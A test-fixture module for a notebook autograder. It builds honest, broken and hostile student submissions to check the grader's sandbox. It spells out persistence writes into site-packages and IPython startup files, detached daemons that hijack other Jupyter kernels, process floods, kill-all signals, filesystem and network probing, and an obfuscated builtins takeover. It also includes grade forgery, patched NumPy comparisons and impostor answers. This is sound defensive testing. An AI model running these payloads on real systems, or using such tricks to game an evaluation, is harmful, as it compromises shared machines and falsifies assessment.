"""A class of submissions, honest, broken and hostile, graded in one run by every grading test.

:func:`build` writes them all into one folder; ``tests/conftest.py`` grades that
folder once per test session with ``python -m convlab grade --jobs 2`` (the
way an instructor grades), and ``tests/test_grader.py``,
``tests/test_exercises.py`` and ``tests/test_grading_trust.py`` read the one
report.  Honest notebooks (every solution) sort before the others, untouched
exercises and the attacks beside them, and a few honest notebooks again after
them (``zz_after_*``), so any attack that reached another submission, the
installation or a later run shows as a lost point or a flag there.
"""

import ast
import base64
import copy
import re
from pathlib import Path

import nbformat

from convlab.grading import EXERCISES, TASKS

ROOT = Path(__file__).resolve().parents[1]

#: Every process an attack starts carries this in its command line, so the tests can look for survivors.
MARKER = "convlab-hostile-marker"


# --- building blocks ---------------------------------------------------------------------------------


def exercise(name):
    return nbformat.read(ROOT / "exercises" / f"{name}.ipynb", as_version=4)


def solution(name):
    nb = nbformat.read(ROOT / "solutions" / f"{name}.ipynb", as_version=4)
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs, cell.execution_count = [], None
    return nb


def add_cell(nb, source, at=None):
    nb.cells.insert(len(nb.cells) if at is None else at, nbformat.v4.new_code_cell(source))


def definition_cell(nb, task):
    """The code cell that defines a task's function (``def task(``)."""
    pattern = re.compile(rf"^def {task}\(", re.MULTILINE)
    return next(cell for cell in nb.cells if cell.cell_type == "code" and pattern.search(cell.source))


def code_cell(nb, text):
    return next(cell for cell in nb.cells if cell.cell_type == "code" and text in cell.source)


def imports_at(nb):
    return next(i for i, cell in enumerate(nb.cells) if cell.cell_type == "code" and "import" in cell.source) + 1


def lean(nb):
    """``nb`` without its demonstrations: only cells of imports, definitions and checks stay.

    The attacks need what defines and checks the answers, not the timing sweeps and
    figures around them; leaving those out keeps the class quick to grade.
    """
    def needed(cell):
        if cell.cell_type != "code":
            return True
        try:
            body = ast.parse(cell.source).body
        except SyntaxError:
            return True
        kinds = (ast.Import, ast.ImportFrom, ast.FunctionDef, ast.ClassDef, ast.Assign)
        return all(isinstance(s, kinds) or (isinstance(s, ast.Expr) and "check(" in ast.unparse(s)) for s in body)

    nb.cells = [cell for cell in nb.cells if needed(cell)]
    return nb


def answered(name, table):
    """The solution (without its demonstrations), with each task of ``table`` answered by the code given there."""
    nb = lean(solution(name))
    for task in EXERCISES[name]:
        if task in table:
            definition_cell(nb, task).source = table[task]
    return nb


def obfuscated(code):
    """A cell that runs ``code`` decoded at run time, so no source check can read it."""
    packed = base64.b64encode(code.encode()).decode()
    return f"import base64 as _b\nexec(_b.b64decode({packed!r}).decode())"


# --- forged records and patched comparisons --------------------------------------------------------

FORGE = """
from IPython.display import display
from convlab.grading import TASKS, RECORD_MIME
for name, task in TASKS.items():
    subchecks = [{"label": c.label, "status": "passed", "points": c.points, "max_points": c.points}
                 for c in task.cases]
    record = {"version": 1, "task": name, "exercise": task.exercise, "points": task.max_points,
              "max_points": task.max_points, "status": "passed", "subchecks": subchecks}
    display({"text/plain": f"{name}: {task.max_points}/{task.max_points} points", RECORD_MIME: record}, raw=True)
"""

PATCH_COMPARISONS = """
import numpy as np
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.broadcast(a, b).shape, bool)
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
"""


def forged_and_patched(name):
    """NumPy's comparisons always say "equal", every answer is wrong, and a last cell forges full marks."""
    nb = exercise(name)
    add_cell(nb, PATCH_COMPARISONS, at=imports_at(nb))
    for cell in nb.cells:
        if cell.cell_type != "code" or "raise NotImplementedError()" not in cell.source:
            continue
        value = next((t for t in EXERCISES[name] if TASKS[t].kind == "value" and t in cell.source), None)
        if value:
            cell.source = cell.source.replace("raise NotImplementedError()", f"{value} = ([0], [0])")
        else:
            cell.source = cell.source.replace("raise NotImplementedError()", "return np.zeros((1, 1))")
    add_cell(nb, FORGE)
    return nb


# --- shortcuts each rule forbids -------------------------------------------------------------------

#: A shortcut for every task that has a rule: what its rule forbids, written plainly.
SHORTCUTS = {
    "top_left": "def top_left(x, k):\n    return convlab.conv2d(x, k)[0, 0]",
    "conv2d_loops": (
        "from scipy.signal import correlate2d as c2\n"
        "def conv2d_loops(x, k):\n    return c2(x, k, mode='valid')"
    ),
    "convolve2d_loops": "def convolve2d_loops(x, k):\n    return convlab.convolve2d(x, k)",
    "conv2d_loops_channels": "def conv2d_loops_channels(x, k):\n    return convlab.conv2d(x, k)",
    "c_strides": "def c_strides(shape, itemsize):\n    return np.empty(shape, dtype=f'V{itemsize}').strides",
    "windows": "def windows(x, window):\n    return np.lib.stride_tricks.sliding_window_view(x, window)",
    "windows_1d": (
        "from numpy.lib.stride_tricks import sliding_window_view as view\n"
        "def windows_1d(x, width):\n    return view(x, width)"
    ),
    "windows_strided": (  # a view made right, then copied: a copy is not what the task asks for
        "from numpy.lib.stride_tricks import as_strided\n"
        "def windows_strided(x, window, stride, dilation):\n"
        "    (R, S), (sh, sw), (dh, dw) = window, stride, dilation\n"
        "    Ho = (x.shape[0] - dh * (R - 1) - 1) // sh + 1\n"
        "    Wo = (x.shape[1] - dw * (S - 1) - 1) // sw + 1\n"
        "    r, c = x.strides\n"
        "    return as_strided(x, (Ho, Wo, R, S), (sh * r, sw * c, dh * r, dw * c)).copy()"
    ),
    "conv1d": "def conv1d(x, k):\n    return sum(np.correlate(xc, kc, mode='valid') for xc, kc in zip(x, k))",
    "conv2d_hwc": (  # right values, but with einsum where one tensordot is asked for
        "def conv2d_hwc(x, k):\n"
        "    return np.einsum('cijrs,rsc->ij', convlab.sliding_windows(np.moveaxis(x, -1, 0), k.shape[:2]), k)"
    ),
    "depthwise_conv": (
        "from scipy.signal import correlate2d\n"
        "def depthwise_conv(x, k):\n    return np.array([correlate2d(a, b, mode='valid') for a, b in zip(x, k)])"
    ),
    "output_size": (
        "def output_size(input_hw, kernel_hw, stride, padding, dilation):\n"
        "    return convlab.output_shape(input_hw, kernel_hw, stride, padding, dilation)"
    ),
    "pad": "from convlab.windows import pad_hw\ndef pad(x, padding):\n    return pad_hw(x, padding)",
    "conv2d_general": (
        "from convlab import conv2d as c\n"
        "def conv2d_general(x, k, stride, padding, dilation):\n    return c(x, k, stride, padding, dilation)"
    ),
    "conv2d_nhwc": (
        "import convlab as cl\n"
        "def conv2d_nhwc(x, k):\n"
        "    return cl.conv2d(x.transpose(0, 3, 1, 2), k.transpose(3, 2, 0, 1)).transpose(0, 2, 3, 1)"
    ),
    "conv1x1": "def conv1x1(x, w):\n    return convlab.conv2d(x, w[:, :, None, None])",
    "grouped_conv": (
        "def grouped_conv(x, k, groups):\n"
        "    C, K = x.shape[1] // groups, k.shape[0] // groups\n"
        "    return np.concatenate([convlab.conv2d(x[:, g * C:(g + 1) * C], k[g * K:(g + 1) * K])\n"
        "                           for g in range(groups)], axis=1)"
    ),
    "im2col_strided": (
        "def im2col_strided(x, window, stride, dilation):\n"
        "    view = convlab.sliding_windows(x, window, stride, dilation)\n"
        "    C, Ho, Wo, R, S = view.shape\n"
        "    return view.transpose(0, 3, 4, 1, 2).reshape(C * R * S, Ho * Wo)"
    ),
    "conv2d_chunked": "def conv2d_chunked(x, k, max_bytes):\n    return convlab.conv2d(x, k)",
    "conv2d_fft": (
        "from convlab.fourier import conv_fft\n"
        "def conv2d_fft(x, k):\n    return conv_fft(x[None] * 1.0, k * 1.0)[0]"
    ),
    "winograd_1d": (  # Winograd's products right, the outputs from convlab's F(2, 3)
        "from convlab import winograd\n"
        "def winograd_1d(d, g):\n"
        "    tiles = np.lib.stride_tricks.sliding_window_view(d, 4)[::2]\n"
        "    return (tiles @ BT.T) * (G @ g), winograd.f23(tiles, g).reshape(-1)"
    ),
    "winograd_2d": (
        "def winograd_2d(x, k):\n"
        "    tiles = convlab.sliding_windows(x, (4, 4), stride=2)\n"
        "    y = convlab.winograd.conv_winograd(x[None, None] * 1.0, k[None, None] * 1.0)[0, 0]\n"
        "    return (BT @ tiles @ BT.T) * (G @ k @ G.T), y"
    ),
    "max_pool_padded": (
        "def max_pool_padded(x, window, stride, padding):\n    return convlab.max_pool2d(x, window, stride, padding)"
    ),
    "numerical_gradient": (  # the kernel fished out of the loss, then the library's gradient
        "def numerical_gradient(f, x, eps):\n"
        "    k = next(c.cell_contents for c in f.__closure__ if isinstance(c.cell_contents, np.ndarray))\n"
        "    return convlab.conv2d_backward(x, k, convlab.conv2d(x, k))[0]"
    ),
    "conv2d_grad_k": "def conv2d_grad_k(x, k, grad_out):\n    return convlab.conv2d_backward(x, k, grad_out)[1]",
    "layer_grad_x": (
        "def layer_grad_x(x, k, grad_out, stride, dilation):\n"
        "    return convlab.conv2d_backward(x, k, grad_out, stride=stride, dilation=dilation)[0]"
    ),
    "conv_transpose": "def conv_transpose(y, k, stride):\n    return convlab.conv_transpose2d(y, k, stride)",
    "conv_input_grad": (
        "def conv_input_grad(x, k, grad_out, padding):\n"
        "    return convlab.conv2d_backward(x, k, grad_out, padding=padding)[0]"
    ),
    "network_backward": (  # convlab's own backward passes, layer by layer
        "def network_backward(x, labels, k, b, w, c):\n"
        "    logits, (z, a, p, h) = network_forward(x, k, b, w, c)\n"
        "    loss, g = convlab.softmax_cross_entropy(logits, labels)\n"
        "    g, dw, dc = convlab.dense_backward(h, w, g)\n"
        "    g = convlab.relu_backward(z, convlab.max_pool2d_backward(a, g.reshape(p.shape), 2))\n"
        "    _, dk, db = convlab.conv_layer_backward(x, k, g, padding=1)\n"
        "    return loss, dk, db, dw, dc"
    ),
    "train": (  # convlab's update instead of one's own
        "def train(x, y, epochs, seed):\n"
        "    rng = np.random.default_rng(seed)\n"
        "    params = [rng.standard_normal((8, 1, 3, 3)) * 0.47, np.zeros(8), rng.standard_normal((10, 128)) * 0.01,\n"
        "              np.zeros(10)]\n"
        "    velocity = [None] * 4\n"
        "    for _ in range(epochs):\n"
        "        for start in range(0, len(y), 32):\n"
        "            _, *grads = network_backward(x[start:start + 32], y[start:start + 32], *params)\n"
        "            for i, g in enumerate(grads):\n"
        "                params[i], velocity[i] = convlab.sgd_momentum(params[i], g, velocity[i], lr=0.05)\n"
        "    return tuple(params)"
    ),
    "max_pool_backward": (
        "def max_pool_backward(x, grad_out, window):\n    return convlab.max_pool2d_backward(x, grad_out, window)"
    ),
    "softmax_cross_entropy": (
        "def softmax_cross_entropy(logits, labels):\n    return convlab.softmax_cross_entropy(logits, labels)"
    ),
}

def shortcuts(name):
    """A shortcut for every task of an exercise that has a rule: the realistic one above, else one made
    from the registry (a routine from SciPy, which no rule allows)."""
    table = {}
    for task in EXERCISES[name]:
        if TASKS[task].rule is not None:
            table[task] = SHORTCUTS.get(task) or (
                f"import scipy.signal\ndef {task}(*args, **kwargs):\n    return scipy.signal.correlate(*args[:2])")
    return table


#: What the rules forbid, reached without naming it: through a container, a private module, a window
#: helper no rule lists, gc, a filter of another library, names made at run time.
ROUNDABOUT = {
    "01_loops": {
        "conv2d_loops": (
            "def conv2d_loops(x, k):\n"
            "    return convlab.choose.IMPLEMENTATIONS['loops'](x[None, None], k[None, None], (1, 1), (1, 1))[0, 0]"
        ),
        "convolve2d_loops": (
            "import scipy.signal\n"
            "def convolve2d_loops(x, k):\n"
            "    return scipy.signal._sigtools._correlateND(x, k[::-1, ::-1][::-1, ::-1], 'valid')"
        ),
        "conv2d_loops_channels": (
            "def conv2d_loops_channels(x, k):\n"
            "    w = convlab.windows.window_view(x, k.shape[-2:], (1, 1), (1, 1))\n"
            "    return (w * k[:, None, None]).sum(axis=(0, 3, 4))"
        ),
    },
    "02_memory_and_strides": {
        "windows": (  # the guard's saved originals, found through gc
            "import gc\n"
            "def windows(x, window):\n"
            "    found = [o for o in gc.get_objects() if getattr(o, '__name__', '') == 'sliding_window_view']\n"
            "    return found[0](x, window)"
        ),
        "windows_1d": (
            "def windows_1d(x, width):\n"
            "    view = __import__('numpy.lib.stride_tricks', fromlist=['_'])\n"
            "    return getattr(view, 'sliding_window' + '_view')(x, width)"
        ),
    },
    "09_make_it_learn": {
        "train": (  # the grader's held-out digits, looked up in the course's own copy of the data set
            "def train(x, y, epochs, seed):\n"
            "    digits, labels = convlab.load_digits()\n"
            "    every = (digits / 16.0)[:, None]\n"
            "    known = {image.tobytes(): label for image, label in zip(every, labels)}\n"
            "    return tuple(np.zeros(s) for s in ((8, 1, 3, 3), (8,), (10, 128), (10,))), known"
        ),
    },
    "08_gradients": {
        "max_pool_padded": (
            "from scipy.ndimage import maximum_filter\n"
            "def max_pool_padded(x, window, stride, padding):\n"
            "    fill = -np.inf if x.dtype.kind == 'f' else np.iinfo(x.dtype).min\n"
            "    width = [(0, 0)] * (x.ndim - 2) + [(padding, padding)] * 2\n"
            "    p = np.pad(x, width, constant_values=fill)\n"
            "    size = (1,) * (x.ndim - 2) + (window, window)\n"
            "    m = maximum_filter(p, size=size, origin=[0] * (x.ndim - 2) + [-(window // 2)] * 2)\n"
            "    h = (p.shape[-2] - window) // stride + 1\n"
            "    w = (p.shape[-1] - window) // stride + 1\n"
            "    return m[..., :h * stride:stride, :w * stride:stride]"
        ),
        "layer_grad_x": (
            "def layer_grad_x(x, k, grad_out, stride, dilation):\n"
            "    return getattr(convlab, 'conv2d_' + 'backward')(x, k, grad_out, stride=stride, dilation=dilation)[0]"
        ),
    },
}

#: Answers that tamper with how the grader reads them, from inside the graded function.
TAMPERING = {
    "02_memory_and_strides": {
        "windows": (  # a copy, passed off as a view by replacing what tells them apart
            "def windows(x, window):\n"
            "    np.shares_memory = lambda *args, **kwargs: True\n"
            "    return np.array(np.lib.stride_tricks.as_strided(x, (1, 1, 1, 1), (8, 8, 8, 8), writeable=False))"
        ),
        "windows_1d": (  # the same, through a name the source check cannot read
            "def windows_1d(x, width):\n"
            "    setattr(np, 'shares_' + 'memory', lambda *args, **kwargs: True)\n"
            "    (step,) = x.strides\n"
            "    return np.lib.stride_tricks.as_strided(x, (len(x) - width + 1, width), (step, step)).copy()"
        ),
    },
    "01_loops": {
        "conv2d_loops": (  # a file written from the graded function: the sandbox's audit hook refuses it
            "def conv2d_loops(x, k):\n"
            "    np.save('/tmp/leak.npy', x)\n"
            "    return np.zeros((x.shape[0] - k.shape[0] + 1, x.shape[1] - k.shape[1] + 1))"
        ),
        "convolve2d_loops": (  # a frame, to reach the code that asks
            "def convolve2d_loops(x, k):\n"
            "    try:\n"
            "        raise ValueError\n"
            "    except ValueError as err:\n"
            "        frame = err.__traceback__.tb_frame.f_back\n"
            "    return frame.f_locals"
        ),
        "conv2d_loops_channels": (  # a chain of attributes from NumPy out to builtins, past the source check
            "def conv2d_loops_channels(x, k):\n"
            "    core = np.ma.core\n"
            "    way_out = core.builtins\n"
            "    return way_out.getattr(np, 'corr' + 'elate')(x.ravel(), k.ravel())"
        ),
        "count_multiplies": (  # a report line forged in an error message, with terminal escapes
            "def count_multiplies(input_hw, kernel_hw):\n"
            "    raise ValueError('no\\n  conv2d_loops           4/4  passed\\n\\x1b[2J\\x1b[31mFORGED')"
        ),
    },
}


#: Answers that only look right: hard-coded for the notebook's own check, or objects that say "equal" to anything.
IMPOSTORS = {
    "01_loops": {
        "conv2d_loops": (
            "from convlab.grading import TASKS\n"
            "from convlab.grading.tasks.base import fixed_rng\n"
            "_answers = {}\n"
            "for i, case in enumerate(TASKS['conv2d_loops'].cases):\n"
            "    x, k = case.build(fixed_rng('conv2d_loops', i))\n"
            "    _answers[x.tobytes() + k.tobytes()] = convlab.conv2d(x, k)\n"
            "\n"
            "def conv2d_loops(x, k):\n"
            "    return _answers.get(x.tobytes() + k.tobytes())"
        ),
        "conv2d_loops_channels": (  # right values, in a subclass whose == says yes to anything
            "class Agreeable(np.ndarray):\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "def conv2d_loops_channels(x, k):\n"
            "    C, R, S = k.shape\n"
            "    out = np.array([[np.sum(x[:, i:i + R, j:j + S] * k) for j in range(x.shape[2] - S + 1)]\n"
            "                    for i in range(x.shape[1] - R + 1)])\n"
            "    return out.view(Agreeable)"
        ),
        "count_multiplies": (
            "class Anything:\n"
            "    def __eq__(self, other):\n"
            "        return True\n"
            "def count_multiplies(input_hw, kernel_hw):\n"
            "    return Anything()"
        ),
    },
}


# --- attacks on the grader, the installation, later runs and other submissions ----------------------

PERSIST = r"""
import glob, os, site, sys, sysconfig
from pathlib import Path
import convlab
wrote = []
targets = [Path(p) / "zz_convlab.pth" for p in site.getsitepackages() + [sysconfig.get_paths()["purelib"]]]
targets += [Path(convlab.__file__).parent / "grading" / "deciding" / "judge.py",
            Path(convlab.__file__).parent / "zz_payload.py",
            Path(convlab.__file__).parents[1] / "solutions" / "zz.ipynb",
            Path.home() / ".ipython" / "profile_default" / "startup" / "00-payload.py",
            Path("/root") / ".ipython" / "profile_default" / "startup" / "00-payload.py",
            Path(sys.prefix) / "lib" / "sitecustomize.py"]
for target in targets:
    try:
        target.parent.mkdir(parents=True, exist_ok=True)
        with open(target, "a") as handle:
            handle.write("import os  # payload\n")
        if not str(target).startswith((str(Path.home()), "/tmp")):
            wrote.append(str(target))
    except OSError:
        pass
raise RuntimeError(f"wrote outside the sandbox's own folders: {wrote}")
"""

OUTLIVE = r"""
import os, subprocess, sys
payload = '''
import glob, json, os, time
# MARKER
deadline = time.time() + 120
while time.time() < deadline:
    found = glob.glob("/tmp/**/*.json", recursive=True)
    found += glob.glob(os.path.expanduser("~/**/kernel-*.json"), recursive=True)
    for path in found:
        try:
            from jupyter_client import BlockingKernelClient
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute("def conv2d_loops(x, k):\\n    return 0")
        except Exception:
            pass
    time.sleep(0.5)
'''.replace("MARKER", "MARKER_VALUE")
subprocess.Popen([sys.executable, "-c", payload, "MARKER_VALUE"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # and a daemon of its own, detached twice
    os.setsid()
    if os.fork() == 0:
        os.execv("/bin/sleep", ["sleep", "300", "MARKER_VALUE"])
    os._exit(0)
""".replace("MARKER_VALUE", MARKER)

MANY_PROCESSES = r"""
import subprocess
started = 0
try:
    for _ in range(400):
        subprocess.Popen(["/bin/sleep", "300", "MARKER_VALUE"])
        started += 1
except OSError as err:
    print("stopped at", started, err)
""".replace("MARKER_VALUE", MARKER)

KILL_PARENT = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
"""

LOOK_AROUND = r"""
import glob, os, socket
found = [p for root in ("/home", "/tmp", "/work", "/root", "/srv", "/mnt", "/var")
         for p in glob.glob(root + "/**/*.ipynb", recursive=True) if "site-packages" not in p]
found += [p for p in glob.glob("/proc/[0-9]*/cmdline") if "kernel" in open(p, "rb").read().decode(errors="ignore")
          and os.path.basename(os.path.dirname(p)) not in (str(os.getpid()), str(os.getppid()))][:3]
connected = []
for host, port in (("1.1.1.1", 80), ("8.8.8.8", 53)):
    try:
        socket.create_connection((host, port), timeout=2).close()
        connected.append(host)
    except OSError:
        pass
raise RuntimeError(f"found {sorted(found)[:5]}, connected {connected}")
"""

TAKEOVER = """
import builtins, json, sys
import numpy as np
import convlab
from convlab.grading import TASKS

class Answer:
    # a callable object: every task answered with the task's own reference
    def __init__(self, task):
        self.task = task
    def __call__(self, *args, **kwargs):
        return TASKS[self.task].reference(*args, **kwargs)

_callable, _isinstance = builtins.callable, builtins.isinstance
builtins.callable = lambda obj: True if type(obj) is Answer else _callable(obj)
json.dumps = (lambda dumps: lambda *a, **k: dumps(*a, **k))(json.dumps)
for name in list(sys.modules):
    if name.startswith("convlab.grading"):
        sys.modules[name + "_shadow"] = sys.modules[name]
ip = get_ipython()
def define_all(*args, **kwargs):
    for name in TASKS:
        ip.user_ns[name] = Answer(name)
ip.events.register("post_run_cell", define_all)
"""

PARSER_BOMB = "x = " + "-" * 200_000 + "1"

DISPLAY_FLOOD = """
from IPython.display import display
handle = display({"text/plain": "start"}, raw=True, display_id=True)
for i in range(1000):
    handle.update({"text/plain": str(i) * 20_000}, raw=True)
"""

DEFINITION_LOOP = """
def forever(function):
    while True:
        pass

@forever
def convolve2d_loops(x, k):
    return x
"""


def attacks():
    """``{file stem: notebook}`` for every attack on the sandbox (all but three keep the solution's answers)."""
    found = {}
    for stem, cell in (("persist", PERSIST), ("outlive", OUTLIVE), ("processes", MANY_PROCESSES),
                       ("look_around", LOOK_AROUND), ("parser_bomb", PARSER_BOMB), ("display_flood", DISPLAY_FLOOD)):
        nb = lean(solution("01_loops"))
        add_cell(nb, cell, at=imports_at(nb))
        found[f"{stem}_01_loops"] = nb
    nb = lean(solution("01_loops"))
    add_cell(nb, KILL_PARENT)
    found["kill_parent_01_loops"] = nb
    nb = lean(solution("01_loops"))
    nb.metadata["convlab"] = "01_loops"  # metadata of an unexpected type: the file name tells
    found["bad_metadata_01_loops"] = nb
    for name in ("01_loops", "09_make_it_learn"):
        nb = exercise(name)
        add_cell(nb, obfuscated(TAKEOVER), at=imports_at(nb))
        found[f"takeover_{name}"] = nb
    nb = lean(solution("01_loops"))
    definition_cell(nb, "convolve2d_loops").source = DEFINITION_LOOP
    found["definition_loop_01_loops"] = nb
    for name, table in ROUNDABOUT.items():
        found[f"roundabout_{name}"] = answered(name, table)
    for name, table in TAMPERING.items():
        found[f"tampering_{name}"] = answered(name, table)
    for name, table in IMPOSTORS.items():
        found[f"impostors_{name}"] = answered(name, table)
    return found


# --- honest but unusual -------------------------------------------------------------------------------

UNUSUAL = {
    "01_loops": {
        "conv2d_loops": (  # aliases, and loops over slices
            "import numpy as numpy_alias\n"
            "from numpy import zeros as blank\n"
            "def conv2d_loops(x, k):\n"
            "    R, S = k.shape\n"
            "    out = blank((x.shape[0] - R + 1, x.shape[1] - S + 1), dtype=numpy_alias.result_type(x, k))\n"
            "    for i in range(out.shape[0]):\n"
            "        for j in range(out.shape[1]):\n"
            "            out[i, j] = (x[i:i + R, j:j + S] * k).sum()\n"
            "    return out"
        ),
    },
    "03_one_contraction": {
        "conv1d": (  # einsum on NumPy's own window view
            "from numpy.lib.stride_tricks import sliding_window_view\n"
            "def conv1d(x, k):\n"
            "    return np.einsum('clr,cr->l', sliding_window_view(x, k.shape[1], axis=1), k)"
        ),
    },
    "07_fast_algorithms": {
        "conv2d_fft": (  # fft2 where the solution has rfft2
            "def conv2d_fft(x, k):\n"
            "    C, H, W = x.shape\n"
            "    K, _, R, S = k.shape\n"
            "    product = (np.fft.fft2(x)[None] * np.fft.fft2(k[..., ::-1, ::-1], s=(H, W))).sum(axis=1)\n"
            "    return np.fft.ifft2(product).real[:, R - 1:, S - 1:]"
        ),
    },
    "08_gradients": {
        "layer_grad_x": (  # the transposed convolution through conv2d, one dilated tap at a time
            "def layer_grad_x(x, k, grad_out, stride, dilation):\n"
            "    N, C, H, W = x.shape\n"
            "    K, _, R, S = k.shape\n"
            "    (sh, sw), (dh, dw) = stride, dilation\n"
            "    Ho, Wo = grad_out.shape[-2:]\n"
            "    grad = np.zeros(x.shape, dtype=np.result_type(x, k, grad_out, float))\n"
            "    for r in range(R):\n"
            "        for s in range(S):\n"
            "            contribution = np.tensordot(grad_out, k[:, :, r, s], axes=([1], [0])).transpose(0, 3, 1, 2)\n"
            "            grad[:, :, r * dh:r * dh + (Ho - 1) * sh + 1:sh, s * dw:s * dw + (Wo - 1) * sw + 1:sw] += \\\n"
            "                contribution\n"
            "    return grad"
        ),
    },
    "09_make_it_learn": {
        "train": (  # 16 filters, another initialisation, learning rate 0.03, momentum 0.8, batches of 16
            "def train(x, y, epochs, seed):\n"
            "    rng = np.random.default_rng(seed + 7)\n"
            "    params = [rng.normal(0, 1 / 3, (16, 1, 3, 3)), np.zeros(16), rng.normal(0, 0.01, (10, 256)),\n"
            "              np.zeros(10)]\n"
            "    velocity = [np.zeros_like(p) for p in params]\n"
            "    for _ in range(epochs):\n"
            "        order = rng.permutation(len(y))\n"
            "        for start in range(0, len(y), 16):\n"
            "            chosen = order[start:start + 16]\n"
            "            _, *grads = network_backward(x[chosen], y[chosen], *params)\n"
            "            for i in range(4):\n"
            "                velocity[i] = 0.8 * velocity[i] - 0.03 * grads[i]\n"
            "                params[i] = params[i] + velocity[i]\n"
            "    return tuple(params)"
        ),
        "avg_pool_backward": (  # loops instead of np.repeat
            "def avg_pool_backward(x_shape, grad_out, window):\n"
            "    grad = np.zeros(x_shape)\n"
            "    ho, wo = grad_out.shape[-2:]\n"
            "    for i in range(ho):\n"
            "        for j in range(wo):\n"
            "            cells = grad[..., i * window:(i + 1) * window, j * window:(j + 1) * window]\n"
            "            cells += grad_out[..., i, j, None, None] / window ** 2\n"
            "    return grad"
        ),
    },
}


# --- trained beforehand ---------------------------------------------------------------------------------------


def precomputed_train():
    """A ``train`` that returns weights trained beforehand on every bundled digit with its true label, written
    into its source as numbers: it trains nothing, breaks no rule, and must still earn nothing."""
    import numpy as np

    import convlab

    namespace = {}
    for cell in solution("09_make_it_learn").cells:
        if cell.cell_type == "code" and cell.source.startswith(("import", "def ")):
            exec(compile(cell.source, "solutions/09_make_it_learn.ipynb", "exec"), namespace)
    digits, labels = convlab.load_digits()
    trained = namespace["train"]((digits / 16.0)[:, None], labels, 15, 0)
    literals = ", ".join(f"np.array({np.round(p, 5).tolist()!r})" for p in trained)
    return f"def train(x, y, epochs, seed):\n    return ({literals})"


# --- broken notebooks ---------------------------------------------------------------------------------


def broken():
    """Submissions of 01_loops, each broken in one way."""
    source = lean(solution("01_loops"))

    def syntax_error(nb):
        code_cell(nb, "def conv2d_loops(").source = "def conv2d_loops(x, k)\n    return x"

    def loop_in_a_cell(nb):  # waits instead of spinning: the cell's time limit stops either, and
        # loop_in_a_function spins in the same place (a checked call runs in a cell too)
        code_cell(nb, "def convolve2d_loops(").source = "import time\nwhile True:\n    time.sleep(1)"

    def loop_in_a_function(nb):
        code_cell(nb, "def convolve2d_loops(").source = (
            "def convolve2d_loops(x, k):\n    while True:\n        pass")

    def kernel_dies(nb):
        code_cell(nb, "def convolve2d_loops(").source = "import os\nos._exit(1)"

    def function_deleted(nb):
        nb.cells.remove(code_cell(nb, "def conv2d_loops_channels("))

    def check_deleted(nb):
        nb.cells.remove(code_cell(nb, 'check("count_multiplies")'))

    def renamed(nb):  # metadata lost: the file name tells the exercise
        del nb.metadata["convlab"]

    def stale_outputs(nb):  # a faked record in the stored outputs must not count
        cell = code_cell(nb, "def conv2d_loops(")
        cell.source = "def conv2d_loops(x, k):\n    return None"
        cell.outputs = copy.deepcopy(solution_with_outputs("01_loops", 'check("conv2d_loops")'))

    def memory_hog(nb):  # 3 GiB where the sandbox may have 2: a MemoryError, not a swapping machine
        code_cell(nb, "def convolve2d_loops(").source = "import numpy as np\nbig = np.ones(3 * 2**27)"

    def flood(nb):  # about 20 MB of output
        code_cell(nb, "def convolve2d_loops(").source = "for i in range(200_000):\n    print('x' * 100)"

    found = {}
    for change in (syntax_error, loop_in_a_cell, loop_in_a_function, kernel_dies, function_deleted,
                   check_deleted, renamed, stale_outputs, memory_hog, flood):
        nb = copy.deepcopy(source)
        change(nb)
        found[f"broken_{change.__name__}_01_loops"] = nb  # renamed has no metadata: the file name tells
    return found


def solution_with_outputs(name, text):
    nb = nbformat.read(ROOT / "solutions" / f"{name}.ipynb", as_version=4)
    return code_cell(nb, text).outputs


# --- the class ----------------------------------------------------------------------------------------

#: Exercises whose records are forged and comparisons patched (the grader never reads either, so a few show it).
FORGED = ("00_start_here", "04_stride_padding_dilation", "09_make_it_learn")

#: Honest notebooks graded again after everything else.
AFTER = ("01_loops", "02_memory_and_strides", "08_gradients")


def renamed(name):
    """The solution, with its answers' variables renamed and comments and blank lines added: a disguised copy."""
    nb = lean(solution(name))
    for task in EXERCISES[name]:
        cell = definition_cell(nb, task)
        text = re.sub(r"\bx\b", "image", cell.source)
        text = re.sub(r"\bk\b", "kern", text)
        cell.source = "# my own work\n\n" + text.replace("\n    return", "\n\n    # the result\n    return")
    return nb


#: The students of the class, in ``{student: [notebook stems]}``: a folder each, at one depth or another,
#: or a learning platform's file names; "s99" is on the roster and submitted nothing.
def _students(stems):
    honest = [s for s in stems if s.startswith("a_honest_")]
    after = [s for s in stems if s.startswith("zz_after_")]
    middle = [s for s in stems if s not in honest and s not in after]
    students = {}
    for group in (honest, middle, after):
        for i in range(0, len(group), 2):
            students[f"s{len(students) + 1:02d}"] = group[i:i + 2]
    return students


def build(folder):
    """Write the class into ``folder``, student by student, and its roster beside it.

    Returns
    -------
    dict
        ``paths``: ``{notebook stem: path}`` (the stem names the submission, whatever its file is
        called); ``students``: ``{stem: student ID or None}``; ``roster``: the roster's path.
    """
    folder = Path(folder)
    notebooks = {}
    for name in EXERCISES:
        notebooks[f"a_honest_{name}"] = solution(name)
        notebooks[f"untouched_{name}"] = exercise(name)
        if name in FORGED:
            notebooks[f"forged_{name}"] = forged_and_patched(name)
        notebooks[f"shortcuts_{name}"] = answered(name, shortcuts(name))
    for name, table in UNUSUAL.items():
        notebooks[f"unusual_{name}"] = answered(name, table)
    notebooks["precomputed_09_make_it_learn"] = answered("09_make_it_learn", {"train": precomputed_train()})
    notebooks["renamed_solution_04_stride_padding_dilation"] = renamed("04_stride_padding_dilation")
    notebooks.update(attacks())
    notebooks.update(broken())
    for name in AFTER:
        notebooks[f"zz_after_{name}"] = lean(solution(name))
    students = _students(list(notebooks))
    paths, placed = {}, {}
    for number, (student, stems) in enumerate(students.items()):
        for stem in stems:
            if stems[0].startswith("a_honest_"):
                path = folder / "a-first" / student / f"{stem}.ipynb"
            elif stems[0].startswith("zz_after_"):
                path = folder / "z-last" / "deeper" / student / "week-3" / f"{stem}.ipynb"
